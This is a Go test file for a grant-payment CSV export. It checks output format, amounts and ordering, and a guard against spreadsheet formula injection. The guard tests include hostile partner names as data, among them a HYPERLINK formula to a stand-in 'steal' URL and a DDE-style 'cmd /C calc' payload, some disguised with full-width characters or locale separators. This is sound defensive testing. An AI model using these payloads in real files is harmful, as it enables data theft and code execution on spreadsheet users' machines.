package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/partnership-grants/backend/pkg/grants"
)

func TestCSVGolden(t *testing.T) {
	var buf bytes.Buffer
	if err := CSV(&buf, fixture(t)); err != nil {
		t.Fatal(err)
	}
	golden(t, "instalments.csv", buf.Bytes())
}

func TestCSVUsesCRLF(t *testing.T) {
	var buf bytes.Buffer
	if err := CSV(&buf, fixture(t)); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.HasSuffix(out, "\r\n") {
		t.Error("last record does not end in CRLF")
	}
	if strings.Count(out, "\n") != strings.Count(out, "\r\n") {
		t.Error("found a bare LF: RFC 4180 records end in CRLF")
	}
}

// readCSV parses the export back as a finance system would, undoing the
// formula guard, and keys each row by column name.
func readCSV(t *testing.T, data []byte) []map[string]string {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) == 0 || !slices.Equal(records[0], CSVHeader) {
		t.Fatalf("header = %q, want %q", records[0], CSVHeader)
	}
	var rows []map[string]string
	for _, rec := range records[1:] {
		row := map[string]string{}
		for i, name := range CSVHeader {
			row[name] = unguardCell(rec[i])
		}
		rows = append(rows, row)
	}
	return rows
}

func TestCSVRoundTripSumsToEachAwardExactly(t *testing.T) {
	agreements := fixture(t)
	var buf bytes.Buffer
	if err := CSV(&buf, agreements); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())

	sums := map[string]int64{}
	counts := map[string]int{}
	for _, r := range rows {
		minor, err := strconv.ParseInt(r["amount_minor"], 10, 64)
		if err != nil {
			t.Fatalf("amount_minor %q: %v", r["amount_minor"], err)
		}
		// The major-unit column must be the same number, exactly: remove
		// the decimal point and it reads as the minor units.
		if got := strings.Replace(r["amount"], ".", "", 1); strings.TrimLeft(got, "0") != strconv.FormatInt(minor, 10) {
			t.Errorf("%s #%s: amount %s does not equal amount_minor %d", r["reference"], r["instalment_number"], r["amount"], minor)
		}
		sums[r["agreement_id"]] += minor
		counts[r["agreement_id"]]++
	}
	if len(sums) != len(agreements) {
		t.Fatalf("rows cover %d agreements, want %d", len(sums), len(agreements))
	}
	for _, a := range agreements {
		if sums[a.ID] != a.Amount {
			t.Errorf("%s: instalments sum to %d, award is %d", a.Reference, sums[a.ID], a.Amount)
		}
		if counts[a.ID] != a.InstalmentCount {
			t.Errorf("%s: %d rows, want %d", a.Reference, counts[a.ID], a.InstalmentCount)
		}
	}

	// The odd award shows its remainder pence, on the earliest instalments.
	var larder []string
	for _, r := range rows {
		if r["reference"] == "CP-2026-001" {
			larder = append(larder, r["amount"])
		}
	}
	if want := []string{"2500.01", "2500.01", "2500.01", "2500.00"}; !slices.Equal(larder, want) {
		t.Errorf("CP-2026-001 amounts = %q, want %q", larder, want)
	}
}

func TestCSVOrdersByReferenceThenInstalment(t *testing.T) {
	agreements := fixture(t)
	// Shuffle the instalments too: the order must come from the export.
	slices.Reverse(agreements[0].Instalments)
	var buf bytes.Buffer
	if err := CSV(&buf, agreements); err != nil {
		t.Fatal(err)
	}
	var keys []string
	for _, r := range readCSV(t, buf.Bytes()) {
		keys = append(keys, r["reference"]+"#"+r["instalment_number"])
	}
	if !slices.IsSorted(keys) {
		t.Errorf("rows out of order: %q", keys)
	}
}

func TestCSVGuardsFormulaCells(t *testing.T) {
	var buf bytes.Buffer
	if err := CSV(&buf, fixture(t)); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := slices.Index(CSVHeader, "partner_name")
	refCol := slices.Index(CSVHeader, "payment_reference")
	var sawName, sawRef bool
	for _, rec := range records[1:] {
		for i, cell := range rec {
			if startsFormula(cell) {
				t.Errorf("cell %q in column %s would run as a formula", cell, CSVHeader[i])
			}
		}
		if unguardCell(rec[col]) == formulaName {
			sawName = true
			if rec[col] != "'"+formulaName {
				t.Errorf("partner name cell = %q, want a leading apostrophe", rec[col])
			}
		}
		if rec[refCol] == "'-FPS-2025-1007" {
			sawRef = true
		}
	}
	if !sawName || !sawRef {
		t.Errorf("guarded cells not found (name %v, payment reference %v)", sawName, sawRef)
	}
}

// Issue item 12: a spreadsheet in a locale whose list separator is ';' (or
// one told to split on tabs) reads this comma-separated file by that
// separator, and a quote in mid-field is then text: each piece of a cell
// after a ';', a tab, a ',' or a line break is a cell of its own. No such
// cell may start a formula.
func TestCSVGuardsFormulasWhenReadWithAnotherSeparator(t *testing.T) {
	agreements := fixture(t)
	hostile := []string{
		`Hope House; =HYPERLINK("http://example.invalid/steal","Open")`,
		"Hope House;+cmd|' /C calc'!A0",
		"Hope House,-2+3",
		"Hope House\t@SUM(A1)",
		"Hope House\n=1+1",
		"Hope House;\uFF1D1+1",
		"Hope House;  \uFF0B1",
	}
	for i, name := range hostile {
		a := agreements[i%len(agreements)]
		a.ID, a.Reference, a.Partner.Name = fmt.Sprintf("agr-hostile-%d", i), fmt.Sprintf("CP-2026-9%02d", i), name
		agreements = append(agreements, a)
	}
	var buf bytes.Buffer
	if err := CSV(&buf, agreements); err != nil {
		t.Fatal(err)
	}
	for _, sep := range []rune{',', ';', '\t'} {
		r := csv.NewReader(bytes.NewReader(buf.Bytes()))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, true, -1
		records, err := r.ReadAll()
		if err != nil {
			t.Fatalf("read with %q: %v", sep, err)
		}
		for _, rec := range records {
			for _, cell := range rec {
				if startsFormula(cell) {
					t.Errorf("read with %q, cell %q would run as a formula", sep, cell)
				}
			}
		}
	}
	// Finance's own import reads the names back as sent, on one line.
	rows := readCSV(t, buf.Bytes())
	for _, name := range hostile {
		if !slices.ContainsFunc(rows, func(r map[string]string) bool { return r["partner_name"] == grants.CleanLine(name) }) {
			t.Errorf("partner name %q does not read back", name)
		}
	}
}

func TestGuardCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Ancoats Community Larder", "Ancoats Community Larder"},
		{"=1+1", "'=1+1"},
		{"+44 161 000 0000", "'+44 161 000 0000"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"\x00x", "'\x00x"},
		// Full-width and small forms, which some spreadsheets read as the ASCII ones.
		{"\uFF1D1+1", "'\uFF1D1+1"},
		{"\uFF0B1", "'\uFF0B1"},
		{"\uFF0D1", "'\uFF0D1"},
		{"\uFF20SUM(A1)", "'\uFF20SUM(A1)"},
		{"\uFE661+1", "'\uFE661+1"},
		{"\uFE62\uFE63\uFE6B", "'\uFE62\uFE63\uFE6B"},
		// After spaces, which a spreadsheet may trim.
		{"  =1+1", "'  =1+1"},
		// After a separator a spreadsheet in another locale splits on.
		{"Hope;=1+1", "Hope;'=1+1"},
		{"Hope; =1+1", "Hope;' =1+1"},
		{"Hope,+1", "Hope,'+1"},
		{"Hope\t-1", "Hope\t'-1"},
		{"Hope\r\n@A1", "Hope\r\n'@A1"},
		{"Hope\n\uFF1D1", "Hope\n'\uFF1D1"},
		{"=a;=b", "'=a;'=b"},
		{"\t=x", "'\t'=x"},
		// Text that only holds a trigger is left as it is.
		{"'t Hooge Huys", "'t Hooge Huys"},
		{"a=b", "a=b"},
		{"Arts, Culture & Heritage - North", "Arts, Culture & Heritage - North"},
		{"Hope;", "Hope;"},
	}
	for _, tt := range tests {
		if got := GuardCell(tt.in); got != tt.want {
			t.Errorf("GuardCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if got := unguardCell(GuardCell(tt.in)); got != tt.in {
			t.Errorf("unguardCell(GuardCell(%q)) = %q", tt.in, got)
		}
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestCSVReportsWriteErrors(t *testing.T) {
	if err := CSV(failingWriter{}, fixture(t)); err == nil {
		t.Fatal("CSV to a failing writer returned nil")
	}
}

func TestCSVOfNothingIsJustTheHeader(t *testing.T) {
	var buf bytes.Buffer
	if err := CSV(&buf, []grants.Agreement{}); err != nil {
		t.Fatal(err)
	}
	if want := strings.Join(CSVHeader, ",") + "\r\n"; buf.String() != want {
		t.Errorf("got %q, want %q", buf.String(), want)
	}
}

// unguardCell undoes GuardCell for programs that read the CSV back: it drops
// an apostrophe only where GuardCell would have added one (at the start, or
// after a separator, before a trigger), so a name that really begins with
// an apostrophe ("'t Hooge Huys") survives. The one value it cannot restore
// is one that itself held an apostrophe and then a trigger at such a place
// ("'=x"); no partner name looks like that.
func unguardCell(s string) string {
	for i := 0; ; {
		if strings.HasPrefix(s[i:], "'") && startsFormula(s[i+1:]) {
			s = s[:i] + s[i+1:]
		}
		next := strings.IndexAny(s[i:], cellSeparators)
		if next < 0 {
			break
		}
		i += next + 1
	}
	return s
}

// The columns finance asked for: why held, why paid without the check-in,
// which check-in it waited on, and how late, as the domain recorded them.
func TestCSVHoldOverrideCheckInAndLateness(t *testing.T) {
	at := func(s string) time.Time {
		d, err := grants.ParseDate(s)
		if err != nil {
			t.Fatal(err)
		}
		return d.At(12, 0, time.UTC)
	}
	a := newAgreement(t, "agr-0009", "CP-2026-009", grants.NewAgreementInput{
		Programme: "community-2026",
		Partner:   grants.Partner{Name: "Rochdale Reading Room", RegistrationNumber: "1100001", Address: "1 Yorkshire Street, Rochdale"},
		Amount:    1000000,
		StartDate: "2026-01-01",
		Terms:     []string{"Reading sessions"},
	}, at("2025-12-01"))
	activate(t, &a, at("2025-12-15"))
	// Instalment 2 (due Wed 1 Apr 2026) waits on check-in 1; paid Tue 7 Apr
	// with an override: 2 and 7 Apr are working days, 3 and 6 Apr bank holidays.
	if _, _, err := a.MakeInstalmentDue(2, at("2026-04-01")); err != nil {
		t.Fatal(err)
	}
	if _, _, err := a.RequestPayment(2, grants.PaymentRequest{PaymentReference: "BACS-9", PaidOn: "2026-04-07", OverrideReason: "report came by post"}, "p9", false, at("2026-04-07"), grants.Actor{ID: "fin", Name: "fin"}); err != nil {
		t.Fatal(err)
	}
	// Instalment 3 (due Wed 1 Jul) held on Fri 3 Jul, read on Wed 8 Jul.
	if _, _, err := a.MakeInstalmentDue(3, at("2026-07-01")); err != nil {
		t.Fatal(err)
	}
	if _, err := a.Hold(3, "bank details being checked", at("2026-07-03"), "officer"); err != nil {
		t.Fatal(err)
	}
	a.MeasureLateness(grants.Date{Year: 2026, Month: 7, Day: 8})
	var buf bytes.Buffer
	if err := CSV(&buf, []grants.Agreement{a}); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	want := []map[string]string{
		{"instalment_number": "1", "hold_reason": "", "override_reason": "", "check_in_waited_on": "", "check_in_waited_on_status": "", "days_late": "", "days_on_hold": "", "days_waiting_on_partner": "", "days_with_finance": ""},
		// Paid on an override while check-in 1 was out: both days the partner's.
		{"instalment_number": "2", "hold_reason": "", "override_reason": "report came by post", "check_in_waited_on": "1", "check_in_waited_on_status": "scheduled", "days_late": "2", "days_on_hold": "0", "days_waiting_on_partner": "2", "days_with_finance": "0"},
		// 2, 3, 6, 7, 8 Jul late; 6, 7, 8 Jul on hold; all waiting on check-in 2.
		{"instalment_number": "3", "hold_reason": "bank details being checked", "override_reason": "", "check_in_waited_on": "2", "check_in_waited_on_status": "scheduled", "days_late": "5", "days_on_hold": "3", "days_waiting_on_partner": "5", "days_with_finance": "0"},
		{"instalment_number": "4", "days_late": "", "check_in_waited_on": "3"},
	}
	for i, w := range want {
		for col, v := range w {
			if got := rows[i][col]; got != v {
				t.Errorf("instalment %d: %s = %q, want %q", i+1, col, got, v)
			}
		}
	}
}
